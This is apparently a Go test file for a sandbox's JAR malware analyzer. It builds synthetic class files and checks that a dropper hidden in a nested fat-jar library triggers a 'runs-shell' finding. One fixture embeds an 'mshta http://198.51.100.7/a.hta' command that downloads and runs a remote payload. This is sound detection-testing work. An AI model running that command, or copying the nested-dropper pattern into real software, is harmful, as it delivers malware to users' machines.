package jar_test

import (
	"context"
	"slices"
	"testing"

	"github.com/airlockmail/airlock/sandboxd/analyzer"
	"github.com/airlockmail/airlock/sandboxd/analyzer/corpus"
	"github.com/airlockmail/airlock/sandboxd/analyzer/jar"
)

func rulesOf(t *testing.T, data []byte) map[string]string {
	t.Helper()
	r, err := jar.New().Analyze(context.Background(), &analyzer.File{Data: data})
	if err != nil || r.Unscannable != "" {
		t.Fatalf("err %v, unscannable %q", err, r.Unscannable)
	}
	out := map[string]string{}
	for _, f := range r.Findings {
		out[f.Rule] = f.Evidence
	}
	return out
}

func execClass(name, cmd string) []byte {
	c := corpus.NewClass(name)
	c.Invoke("static", "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", 1).Ldc(cmd, 2).
		Invoke("virtual", "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;", 1).Pop()
	return c.Bytes()
}

// A fat jar keeps its dropper in a nested library jar: it is followed.
func TestNestedJar(t *testing.T) {
	inner := corpus.Jar("", corpus.ZipEntry{Name: "org/x/Boot.class", Data: execClass("org/x/Boot", "mshta http://198.51.100.7/a.hta")})
	outer := corpus.Jar("org.springframework.boot.loader.JarLauncher",
		corpus.ZipEntry{Name: "BOOT-INF/lib/boot-helper.jar", Data: inner})
	got := rulesOf(t, outer)
	if got["runs-shell"] != "mshta http://198.51.100.7/a.hta" {
		t.Errorf("nested dropper missed: %v", got)
	}
}

// Capabilities in different classes (a process helper here, an HTTP client
// there, as in any large library) do not add up to a dropper.
func TestCombinationsArePerClass(t *testing.T) {
	fetch := corpus.NewClass("org/lib/Http")
	fetch.New("java/net/URL", 2).Ldc("https://www.example.org/", 3).
		Invoke("special", "java/net/URL", "<init>", "(Ljava/lang/String;)V", 1).
		Invoke("virtual", "java/net/URL", "openStream", "()Ljava/io/InputStream;", 1).Pop()
	data := corpus.Jar("org.lib.Main",
		corpus.ZipEntry{Name: "org/lib/Proc.class", Data: execClass("org/lib/Proc", "git status")},
		corpus.ZipEntry{Name: "org/lib/Http.class", Data: fetch.Bytes()})
	got := rulesOf(t, data)
	for _, r := range []string{"download-execute", "runs-shell"} {
		if _, ok := got[r]; ok {
			t.Errorf("%s fired across classes: %v", r, got)
		}
	}
	if !slices.Contains([]string{got["runs-processes"]}, "org/lib/Proc: java.lang.Runtime.exec") {
		t.Errorf("runs-processes evidence %q", got["runs-processes"])
	}
}
